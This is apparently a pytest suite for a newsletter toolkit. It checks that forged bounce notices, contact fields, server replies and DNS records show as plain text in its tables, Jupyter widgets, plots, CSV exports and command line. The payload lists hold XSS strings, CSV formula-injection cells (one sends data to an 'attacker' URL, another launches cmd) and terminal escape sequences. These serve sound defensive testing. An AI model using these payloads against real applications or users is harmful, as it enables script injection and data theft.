"""Text from outside stays text (issue 16, finding 1): nothing a notice, a contact, a server or the
store holds is ever read as HTML, mathtext or a formula where the toolkit shows it.

Forged notices carry a payload in every field (Diagnostic-Code, Remote-MTA, Reporting-MTA, the
quoted subject, the campaign stamp, the recipient's display name) and are recorded through the
real path (a folder of .eml files, ``fetch_bounces``); contacts, campaign and list names carry
payloads too, and Dovecot lists a folder named like a tag. Then the HTML of every styled review
table and of every widget of every panel is parsed: no element, attribute or script/style text
of a payload may appear, and the payload must be readable as text. The real browser (JupyterLab
in headless Chromium) checks that none runs: ``window.__pwned`` stays undefined.
"""

from __future__ import annotations

import html
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import ipywidgets as widgets
import pandas as pd
import pytest

import newsletter_kit as nk
from newsletter_kit import export, review
from newsletter_kit.escaping import csv_cell, html_text, plot_text
from newsletter_kit.panels import BounceReviewPanel, CampaignPanel, SettingsPanel
from newsletter_kit.panels.campaign import QuotaMeter
from newsletter_kit.store import Store, open_store
from tests.bouncing import configure, fetch_raws
from tests.dsn import postfix_dsn, sent_to

#: Each would set a global or hide the page if it were read as markup; each carries "pwned".
PAYLOADS = [
    '<img src=x onerror="window.__pwned=1">',
    "<svg onload=window.__pwned=2>",
    "<script>window.__pwned=3</script>",
    '<a href="javascript:window.__pwned=4">pwned link</a>',
    "<style>body{--pwned:5;display:none}</style>",
    "<iframe srcdoc=\"<script>parent.__pwned=6</script>\"></iframe>",
    "<details open ontoggle=window.__pwned=7>",
]
#: Tags that have no business in the toolkit's HTML.
FORBIDDEN_TAGS = {"img", "svg", "script", "iframe", "object", "embed", "details", "math"}


class _Markup(HTMLParser):
    """The elements, attributes and script/style text of a piece of HTML, and its plain text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self._raw: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if tag == "iframe" and name == "srcdoc":  # the campaign preview: a document of its own
                self.problems += [f"preview: {p}" for p in markup_problems(value or "")]
                continue
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag in FORBIDDEN_TAGS and not (tag == "iframe" and dict(attrs).get("sandbox") == ""):
            self.problems.append(f"<{tag}>")
        if tag in ("script", "style"):
            self._raw = tag

    def handle_endtag(self, tag: str) -> None:
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data: str) -> None:
        if self._raw is not None:
            if "pwned" in data:
                self.problems.append(f"<{self._raw}> {data[:60]!r}")
        else:
            self.text.append(data)


def markup_problems(source: str) -> list[str]:
    """What in ``source`` a payload made into markup (empty: every payload stayed text)."""
    parser = _Markup()
    parser.feed(source)
    parser.close()
    return parser.problems


def shown_text(source: str) -> str:
    parser = _Markup()
    parser.feed(source)
    parser.close()
    return "".join(parser.text)


def html_widgets(widget: widgets.Widget) -> list[widgets.HTML]:
    """Every HTML (and HTMLMath) widget in a widget tree."""
    found = [widget] if isinstance(widget, (widgets.HTML, widgets.HTMLMath)) else []
    for child in getattr(widget, "children", ()) or ():
        found += html_widgets(child)
    return found


def panel_html(panel: object) -> str:
    """The HTML of every widget the panel shows, its message area included."""
    return "\n".join(w.value for w in html_widgets(panel.widget))  # type: ignore[attr-defined]


def text_widgets(widget: widgets.Widget) -> list[str]:
    """Text the panel shows outside HTML widgets (options, tab titles, descriptions)."""
    values: list[str] = []
    if isinstance(widget, (widgets.Dropdown, widgets.Select, widgets.RadioButtons)):
        values += [str(label) for label in widget.options]
    if isinstance(widget, widgets.Tab):
        values += [str(t) for t in widget.titles]
    for child in getattr(widget, "children", ()) or ():
        values += text_widgets(child)
    return values


def forged_dsn(recipient: str, payload: str, *, message_id: str | None = None) -> bytes:
    """``postfix_dsn`` with ``payload`` in every field a sender of notices controls."""
    raw = postfix_dsn(recipient, original_message_id=message_id, campaign=payload).decode("ascii")
    for field, value in [("Remote-MTA: dns; mx.example.com", f"Remote-MTA: dns; {payload}"),
                         ("Reporting-MTA: dns; mx.nk-test.example.com", f"Reporting-MTA: dns; {payload}"),
                         ("Diagnostic-Code: smtp; ", f"Diagnostic-Code: smtp; {payload} "),
                         ("Subject: Our November news", f"Subject: {payload}"),
                         (f"To: {recipient}", f"To: {payload} <{recipient}>"),
                         ("From: News <news@example.org>", f"From: {payload} <news@example.org>")]:
        assert field in raw, field
        raw = raw.replace(field, value)
    return raw.encode("ascii")


def hostile_store(store: Store, tmp_path: Path, payloads: list[str]) -> dict[str, str]:
    """A store whose every outside text carries a payload, written through the real paths:
    contacts (fields, list), campaigns (name, subject), matched and unmatched forged notices.
    Returns what the tests look for: payload → the address its notices are about."""
    settings = configure(store, threshold=5)  # the review panel suppresses, at 1
    about: dict[str, str] = {}
    raws = []
    for n, payload in enumerate(payloads):
        email = f"reader{n}@example.org"
        name = payload.strip()  # names are stripped when saved
        nk.add_contacts(store, [{"email": email, "first_name": payload, "city": payload}], list_name=name)
        nk.create_campaign(store, name, name, f"News {{{{ first_name }}}} {payload}", f"<p>{n}</p>")
        sent_to(store, email, campaign=name)
        message_id = f"<m{n}@news.example.org>"
        with store.transaction():
            store.conn.execute("UPDATE deliveries SET message_id = ? WHERE email = ?", (message_id, email))
        raws += [forged_dsn(email, payload, message_id=message_id),         # ours: counted
                 forged_dsn(f"stranger{n}@example.net", payload)]            # nobody's: unmatched
        about[payload] = email
    tmp_path.mkdir(parents=True, exist_ok=True)
    report = fetch_raws(store, settings, tmp_path, raws)
    assert report.to_dict()["fetched"] == len(raws)
    return about


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Store, dict[str, str]]:
    store = open_store(":memory:")
    return store, hostile_store(store, tmp_path, PAYLOADS)


# --- the helpers ---------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_text_keeps_every_payload_text(payload: str) -> None:
    escaped = html_text(payload)
    assert markup_problems(f"<div title='{escaped}'>{escaped}</div>") == []
    assert shown_text(f"<div>{escaped}</div>") == payload


def test_plot_text_escapes_every_dollar() -> None:
    assert plot_text("$x$ and $$") == r"\$x\$ and \$\$"


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://attacker/?"&A2,"x")', "+cmd|' /C calc'!A0", "-2+3",
                                  "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "   =1+1", " \t@x",
                                  "\uff1d1+1", "\uff0bcmd", "\u3000=1"])
def test_csv_cell_neutralises_formulas(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", ["ann@example.org", "5.1.1", "550 user unknown", "", -3, 2.5, None, "a=b"])
def test_csv_cell_leaves_the_rest(value: object) -> None:
    assert csv_cell(value) == value


# --- styled tables -------------------------------------------------------------------------------


def test_the_forged_notices_reached_the_store_as_they_are(hostile) -> None:
    store, about = hostile
    diagnostics = [d for (d,) in store.conn.execute("SELECT diagnostic FROM bounces")]
    for payload in PAYLOADS:
        assert sum(payload in d for d in diagnostics) == 2  # kept as is: escaping is at display
    assert len(review.unmatched_bounces(store)) == len(PAYLOADS)


def test_every_styled_review_table_shows_payloads_as_text(hostile) -> None:
    store, about = hostile
    for name, kwargs in export.REVIEW_TABLES.items():
        frame = getattr(review, name)(store, **kwargs)
        styled = review.styled(frame, store=store, max_rows=3)
        for rendered in (styled.to_html(), styled._repr_html_()):
            assert markup_problems(rendered) == [], name
    unmatched = review.styled(review.unmatched_bounces(store), store=store).to_html()
    text = shown_text(unmatched)
    for payload in PAYLOADS:
        assert payload in text  # the analyst reads exactly what the notice said
    assert all(p in shown_text(review.styled(review.campaign_summary(store)).to_html()) for p in PAYLOADS)


def test_styled_escapes_column_and_index_labels_and_lists() -> None:
    tag = PAYLOADS[0]
    frame = pd.DataFrame({tag: [tag], "evidence": [[{"diagnostic": tag}]], "n": [-3]}, index=[tag])
    rendered = review.styled(frame).hide(axis="index", subset=[]).to_html()
    assert markup_problems(rendered) == []
    assert shown_text(rendered).count(tag) == 2  # label and cell; the evidence list stays hidden
    shown_index = review.styled(frame).hide(axis="index", level=None).to_html()
    assert markup_problems(shown_index) == []
    with_index = frame.style  # a plain Styler does not escape: the toolkit's must
    assert markup_problems(with_index.to_html()) != []


def test_every_html_table_the_package_builds_escapes() -> None:
    """A table rendered to HTML anywhere in the package goes through review.styled() (escaped)
    or DataFrame.to_html(escape=True); a pandas Styler is made in one place only. New code that
    renders a table another way fails here, before a notice can put markup into it."""
    package = Path(nk.__file__).parent
    unsafe = []
    for path in sorted(package.rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        for call in re.finditer(r"\.to_html\(", source):
            start = source.rfind("\n", 0, call.start()) + 1
            statement = source[start:source.find(")\n", call.end()) + 1]
            if "styled(" not in statement and "escape=True" not in statement:
                unsafe.append(f"{path.name}: {statement.strip()[:80]}")
        for styler in re.finditer(r"\.style\.(?!bar_color|button_color|description_width|font)\w+", source):
            if not (path.name == "review.py" and "def _escaped_style" in source[:styler.start()]
                    and source[:styler.start()].rfind("\ndef ") == source[:styler.start()].rfind("\ndef _escaped_style")):
                unsafe.append(f"{path.name}: {styler.group(0)}")
        for repr_html in re.finditer(r"def _repr_html_|HTMLMath\(|display\(HTML\(", source):
            unsafe.append(f"{path.name}: {repr_html.group(0)}")
    assert unsafe == []


# --- panels --------------------------------------------------------------------------------------


def test_bounce_review_panel_shows_payloads_as_text(hostile) -> None:
    store, about = hostile
    panel = BounceReviewPanel(store)
    assert markup_problems(panel_html(panel)) == []
    by_address = panel._tab_html["by address"].value
    unmatched = panel._tab_html["unmatched"].value
    for payload, email in about.items():
        assert email in shown_text(by_address)
    for payload in PAYLOADS:
        assert payload in shown_text(unmatched)
        assert payload in shown_text(by_address)
    # The what-if and its addresses, after a threshold change and a suppress.
    panel.threshold_slider.value = 1
    panel.apply_button.click()
    assert markup_problems(panel_html(panel)) == []
    assert f"Suppressed {len(PAYLOADS)} address(es)" in shown_text(panel.message.value)
    assert all(email in shown_text(panel._tab_html["suppressions"].value) for email in about.values())


def test_bounce_review_panel_error_messages_are_text(hostile, tmp_path: Path) -> None:
    store, _ = hostile
    folder = tmp_path / PAYLOADS[0].replace("/", "_")
    panel = BounceReviewPanel(store, source_path=folder)  # no such folder: the error names it
    panel.fetch_button.click()
    assert "nk-error" in panel.message.value
    assert markup_problems(panel_html(panel)) == []


def test_campaign_panel_shows_names_subjects_and_contact_fields_as_text(hostile) -> None:
    store, about = hostile
    nk.update_smtp_settings(store, host="127.0.0.1", port=2525, tls="none", daily_limit=500,
                            from_addr="news@example.org")
    for payload in PAYLOADS:
        panel = CampaignPanel(store, campaign=payload)
        panel.show_all.value = True
        assert panel.campaign_name == payload
        page = panel_html(panel)
        assert markup_problems(page) == [], payload
        assert payload in shown_text(panel.campaign_info.value)
        assert payload in shown_text(panel.audience_table.value)  # first_name and city columns
        # The preview renders the subject with the contact's first name (a payload) into a header.
        assert panel.preview_message is not None
        assert payload in shown_text(panel.preview.value)
        assert payload in text_widgets(panel.widget)  # the campaign and list pickers: plain options


def test_campaign_panel_error_naming_a_hostile_campaign_is_text(hostile) -> None:
    store, _ = hostile
    panel = CampaignPanel(store)
    panel.list_name.value = PAYLOADS[0]
    panel.new_name.value = PAYLOADS[2]  # exists already: the error quotes the name
    panel.new_subject.value = "x"
    panel.new_html.value = "<p>x</p>"
    panel.create_button.click()
    assert "nk-error" in panel.message.value
    assert markup_problems(panel_html(panel)) == []
    assert PAYLOADS[2] in shown_text(panel.message.value)


def test_quota_meter_and_magic_panels_are_text(hostile) -> None:
    store, _ = hostile
    nk.update_smtp_settings(store, host="127.0.0.1", port=2525, tls="none", daily_limit=500,
                            from_addr="news@example.org")
    assert markup_problems(panel_html(QuotaMeter(store))) == []


FOLDER = "<img src=x onerror=alert(1)>"


def test_settings_panel_shows_a_hostile_folder_name_and_server_replies_as_text(nk_db: Path, dovecot,
                                                                               mailbox_user) -> None:
    user, password = mailbox_user(prefix="bounces")
    dovecot.create_folder(user, FOLDER)
    panel = SettingsPanel(nk.open_store(nk_db))
    panel.bounce_host.value = "127.0.0.1"
    panel.bounce_port.value = str(dovecot.imap_port)
    panel.bounce_user.value = user
    panel.bounce_password.value = password
    panel.bounce_tls.value = "starttls"
    panel.bounce_ca_file.value = dovecot.ca_file
    panel.folders_button.click()
    assert "nk-ok" in panel.message.value, panel.message.value
    assert FOLDER in panel.bounce_folder.options  # an option is text (the browser test shows it)
    panel.bounce_folder.value = FOLDER
    panel.bounce_password.value = password
    panel.test_button.click()  # "settings test": each step's sentence names the folder
    assert markup_problems(panel_html(panel)) == []
    assert "alert(1)" in shown_text(panel_html(panel)) or FOLDER in panel.bounce_folder.options
    # A wrong password: the server's own reply is shown, as text.
    panel.bounce_password.value = "<b>wrong</b>"
    panel.folders_button.click()
    assert "nk-error" in panel.message.value
    assert markup_problems(panel_html(panel)) == []


class _HostileReplies:
    """An SMTP server whose refusals quote a payload (what a hostile or broken relay may say)."""

    def __init__(self) -> None:
        from tests.mailservers import FaultHandler

        class Handler(FaultHandler):
            async def handle_RCPT(self, server, session, envelope, address, rcpt_options):  # type: ignore[no-untyped-def]
                if address.startswith("refused"):
                    n = int(address[len("refused"):].partition("@")[0])
                    return f"550 5.1.1 {PAYLOADS[n]} no such user"
                return await super().handle_RCPT(server, session, envelope, address, rcpt_options)

        self.handler = Handler()


def test_server_replies_reach_the_panels_as_text(nk_db: Path, smtp_server) -> None:
    """A relay's refusal (kept as the delivery's reply and recorded as a bounce) is text in the
    campaign panel's messages and in every review tab."""
    server = smtp_server(tls="none", handler=_HostileReplies().handler)
    store = nk.open_store(nk_db)
    nk.update_smtp_settings(store, host="127.0.0.1", port=server.port, tls="none", daily_limit=500,
                            from_addr="news@example.org")
    rows = [{"email": f"refused{n}@example.org"} for n in range(len(PAYLOADS))] + [{"email": "ok@example.org"}]
    nk.add_contacts(store, rows, list_name="all-of-them")
    nk.create_campaign(store, "relay", "all-of-them", "Hello", "<p>Hello</p>")
    panel = CampaignPanel(store, campaign="relay")
    panel.send_button.click()
    report = panel.wait(timeout=120)
    assert report is not None and (report.sent, report.failed) == (1, len(PAYLOADS))
    replies = [r for (r,) in store.conn.execute("SELECT smtp_reply FROM deliveries WHERE state = 'failed'")]
    assert all(any(p in (r or "") for p in PAYLOADS) for r in replies)  # stored as the server said
    assert markup_problems(panel_html(panel)) == []
    review_panel = BounceReviewPanel(store)
    assert markup_problems(panel_html(review_panel)) == []
    shown = shown_text(review_panel._tab_html["by address"].value)
    assert all(p in shown for p in PAYLOADS)
    for name, kwargs in export.REVIEW_TABLES.items():
        assert markup_problems(review.styled(getattr(review, name)(store, **kwargs), store=store).to_html()) == []


def _hostile_dns_store(db: Path) -> Store:
    store = nk.open_store(db)
    nk.update_smtp_settings(store, host="smtp.evil.example", port=2525, tls="none", daily_limit=400,
                            from_addr="news@evil.example", timezone="UTC")
    nk.update_bounce_settings(store, host="127.0.0.1", port=1143, user="bounces@mail.evil.example",
                              password_ref="env:NK_TEST_UNUSED", tls="none", allow_plain_auth=True, threshold=3)
    return store


@pytest.fixture
def hostile_dns():
    """A loopback DNS server whose SPF and DMARC records carry markup and terminal escapes."""
    from tests.dnsserver import DnsServer

    zone = {"smtp.evil.example": [("A", "127.0.0.1")], "evil.example": [("A", "127.0.0.1")],
            "mail.evil.example": [("TXT", "v=spf1 <img src=x onerror=alert(1)> -all"),
                                  ("MX", "10 mx.evil.example")],
            "mx.evil.example": [("A", "127.0.0.1")],
            "_dmarc.evil.example": [("TXT", "v=DMARC1; p=<svg onload=window.__pwned=2>\x1b[2J\x1b]0;pwn\x07")]}
    with DnsServer(zone) as server:
        yield server


def test_dns_records_quoted_by_the_check_are_text_in_the_settings_panel(nk_db: Path, hostile_dns) -> None:
    panel = SettingsPanel(_hostile_dns_store(nk_db))
    panel.check_nameserver.value = hostile_dns.nameserver
    panel.check_button.click()
    assert "nk-error" in panel.message.value
    assert markup_problems(panel_html(panel)) == []
    assert "p=<svg onload=window.__pwned=2>" in shown_text(panel.check_results.value)


def test_the_command_line_never_prints_a_terminal_escape_from_outside(nk_db: Path, hostile_dns) -> None:
    """`check` quotes DNS records; a record's ESC or BEL would clear or retitle the terminal."""
    from click.testing import CliRunner

    from newsletter_kit.cli import cli

    _hostile_dns_store(nk_db).close()
    result = CliRunner().invoke(cli, ["--db", str(nk_db), "check", "--nameserver", hostile_dns.nameserver])
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "(p=<svg onload=window.__pwned=2>\\x1b[2j\\x1b]0)" in result.output  # shown, escaped


# --- plots ---------------------------------------------------------------------------------------


def test_plot_labels_show_dollar_signs_literally() -> None:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    store = open_store(":memory:")
    domains = ["$\\alpha^{pwned}$.example", "cash$.example", "x$$y.example"]
    with store.transaction():
        for n, domain in enumerate(domains):
            store.conn.execute(
                "INSERT INTO bounces (email, kind, report_key, source, bounced_at, recorded_at)"
                " VALUES (?, 'hard', ?, 'file', '2026-03-01T00:00:00+00:00', '2026-03-01T00:00:00+00:00')",
                (f"a{n}@{domain}", f"r{n}"))
    ax = review.plot_top_domains(store)
    ax.figure.canvas.draw()  # an unbalanced "$" would fail here if it were read as mathtext
    labels = {label.get_text(): label for label in ax.get_yticklabels()}
    assert set(labels) == {plot_text(d) for d in domains}
    for domain in domains:
        label = labels[plot_text(domain)]
        assert label._preprocess_math(label.get_text()) == (domain, False)  # drawn as these characters
    plt.close(ax.figure)


# --- the CSV export keeps outside text from running ----------------------------------------------

FORMULAS = ['=HYPERLINK("http://attacker/?"&A2,"x")', "+cmd|' /C calc'!A0", "@SUM(A1:A2)",
            "-1+2", "  =1+1"]  # full-width forms: test_csv_cell_neutralises_formulas (notices are ASCII)


def test_csv_export_neutralises_formulas_from_a_forged_notice(tmp_path: Path) -> None:
    import csv

    store = open_store(":memory:")
    hostile_store(store, tmp_path / "in", FORMULAS)
    report = nk.export_review(store, tmp_path / "csv", format="csv")
    seen = 0
    for name in report.tables:
        with open(report.path(name), newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell or cell[0] not in "=+-@\t\r\n\uff1d" and not re.match(r"\s+[=+\-@]", cell), (
                        name, cell)
                    seen += any(f in cell for f in FORMULAS)
    assert seen >= 4 * len(FORMULAS)  # diagnostics, campaigns... all still there, behind a quote
    with open(report.path("unmatched_bounces"), newline="", encoding="utf-8") as handle:
        campaigns = {row["campaign"] for row in csv.DictReader(handle)}
    assert campaigns == {"'" + f.strip() for f in FORMULAS}


def test_parquet_export_keeps_outside_text_exact(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    store = open_store(":memory:")
    hostile_store(store, tmp_path / "in", FORMULAS)
    report = nk.export_review(store, tmp_path / "pq")
    campaigns = set(pq.read_table(report.path("unmatched_bounces")).column("campaign").to_pylist())
    assert campaigns == {f.strip() for f in FORMULAS}
    diagnostics = pq.read_table(report.path("bounces")).column("diagnostic").to_pylist()
    assert all(any(d.startswith(f.strip() + " ") for f in FORMULAS) for d in diagnostics)


def test_csv_export_keeps_numbers_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"n": [-3, 4], "rate": [-0.5, 0.1], "text": ["-3", "ok"], "when": pd.to_datetime(
        ["2026-01-01T00:00Z", None]), "s": pd.array(["=1", None], dtype="string")})
    out = export._neutralised(frame)
    assert out["n"].tolist() == [-3, 4] and out["rate"].tolist() == [-0.5, 0.1]
    assert out["text"].tolist() == ["'-3", "ok"]
    assert out["s"].tolist()[0] == "'=1" and pd.isna(out["s"].tolist()[1])
    assert out["when"].equals(frame["when"])
    path = tmp_path / "t.csv"
    export._export_frame(frame, path, "csv")
    assert path.read_text(encoding="utf-8").splitlines()[1].startswith("-3,-0.5,'-3,")


def test_the_json_of_evidence_in_csv_is_neutralised_only_when_it_starts_a_formula() -> None:
    frame = export._plain(pd.DataFrame({"evidence": [[{"diagnostic": "=1+1"}]]}))
    assert json.loads(export._neutralised(frame)["evidence"][0]) == [{"diagnostic": "=1+1"}]


def test_html_escaping_is_not_double() -> None:
    assert html.unescape(html_text("a & b <c>")) == "a & b <c>"


def test_styled_tables_are_not_typeset_as_math() -> None:
    rendered = review.styled(pd.DataFrame({"diagnostic": ["$\\href{javascript:x}{y}$"]})).to_html()
    assert 'class="tex2jax_ignore mathjax_ignore"' in rendered


# --- in a real browser ---------------------------------------------------------------------------

from tests.test_browser import _KERNEL_IDLE, ARTIFACTS, Lab, jupyterlab, page  # noqa: E402,F401 (fixtures)

_NOTEBOOK_CELLS = [
    "import newsletter_kit as nk\nstore = nk.open_store()",
    "nk.styled(nk.unmatched_bounces(store), store=store)",
    "nk.styled(nk.campaign_summary(store), store=store)",
    "nk.styled(nk.bounces_by_address(store), store=store)",
    "review = nk.BounceReviewPanel(store)\nreview.widget.add_class('nk-test-review')\nreview",
    "nk.CampaignPanel(store, campaign={name!r})",
    "settings = nk.SettingsPanel(store)\nsettings.show_error({error!r})\nsettings",
    "nk.plot_top_domains(store);",
]


def _notebook(cells: list[str]) -> dict:
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
        "cells": [{"cell_type": "code", "id": f"c{n}", "metadata": {}, "execution_count": None, "outputs": [],
                   "source": source} for n, source in enumerate(cells)]}


@pytest.mark.browser
def test_no_payload_runs_in_jupyterlab(jupyterlab: Lab, page, nk_db: Path, tmp_path: Path) -> None:
    """Styled tables, the review, campaign and settings panels, the sidebar and the status bar
    show a store full of payloads in JupyterLab: each reads literally, none runs."""
    store = open_store(nk_db)
    hostile_store(store, tmp_path / "notices", PAYLOADS)
    nk.update_smtp_settings(store, host="127.0.0.1", port=2525, tls="none", daily_limit=500,
                            from_addr="news@example.org")  # never contacted: nothing is sent
    nk.update_bounce_settings(store, folder=FOLDER)
    store.close()
    cells = [c.format(name=PAYLOADS[0], error=f"the server said: {PAYLOADS[1]}") for c in _NOTEBOOK_CELLS]
    (jupyterlab.root / "hostile.ipynb").write_text(json.dumps(_notebook(cells)), encoding="utf-8")

    page.set_default_timeout(90_000)
    page.goto(jupyterlab.url("lab/tree/hostile.ipynb"))
    page.locator(".jp-Notebook").wait_for()
    page.wait_for_function(_KERNEL_IDLE)
    page.evaluate("() => window.jupyterapp.commands.execute('notebook:run-all-cells')")
    review_panel = page.locator(".nk-test-review")
    settings = page.locator(".nk-settings-panel")
    for rendered in (review_panel, page.locator(".nk-campaign-panel"), settings,
                     page.locator(".jp-OutputArea-output img").last):  # the plot, the last cell
        rendered.wait_for(state="attached")
    page.wait_for_function(_KERNEL_IDLE)
    page.wait_for_timeout(1500)  # time for an onerror, onload or ontoggle to have fired
    assert page.evaluate("() => window.__pwned") is None
    # No <style> took effect: the page is not hidden and no rule names the payloads' marker.
    assert page.evaluate("() => getComputedStyle(document.body).display") != "none"
    assert page.evaluate("() => Array.from(document.styleSheets).some(s => { try { return Array.from("
                         "s.cssRules).some(r => r.cssText.includes('pwned')); } catch (e) { return false; } })") is False
    page.locator(".jp-SideBar [data-id='newsletter-kit-sidebar']").click()
    page.locator(".nk-lab-campaign").first.wait_for()
    # The text is there, literally, in each place.
    outputs = page.locator(".jp-OutputArea-output")
    styled = outputs.filter(has=page.locator("table.tex2jax_ignore")).first.inner_text()
    for payload in PAYLOADS:
        assert payload in styled
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "escaping-sidebar-plot.png"))
    review_panel.evaluate("e => e.scrollIntoView()")
    page.wait_for_function("(e) => e.innerText.includes('onerror')", arg=review_panel.element_handle())
    page.screenshot(path=str(ARTIFACTS / "escaping-review-panel.png"))
    shown = review_panel.inner_text()
    assert all(p in shown for p in PAYLOADS), shown[:3000]  # the "by address" tab: diagnostics
    review_panel.get_by_role("tab", name="unmatched").click()
    page.wait_for_function("(e) => e.innerText.includes('stranger0@example.net')", arg=review_panel.element_handle())
    shown = review_panel.inner_text()
    assert all(p in shown for p in PAYLOADS)  # diagnostics and campaign stamps of nobody's reports
    page.screenshot(path=str(ARTIFACTS / "escaping-review-unmatched.png"))
    assert "the server said: " + PAYLOADS[1] in settings.locator(".nk-message").text_content()
    assert PAYLOADS[0] in page.locator(".nk-campaign-panel").text_content()
    options = settings.locator("select").evaluate_all("els => els.flatMap(e => Array.from(e.options, o => o.textContent))")
    assert FOLDER.replace(" ", "\xa0") in options  # ipywidgets shows spaces as no-break spaces
    names = page.locator(".nk-lab-campaign-name").all_inner_texts()
    assert set(names) <= set(p.strip() for p in PAYLOADS) and names
    assert page.evaluate("() => window.__pwned") is None
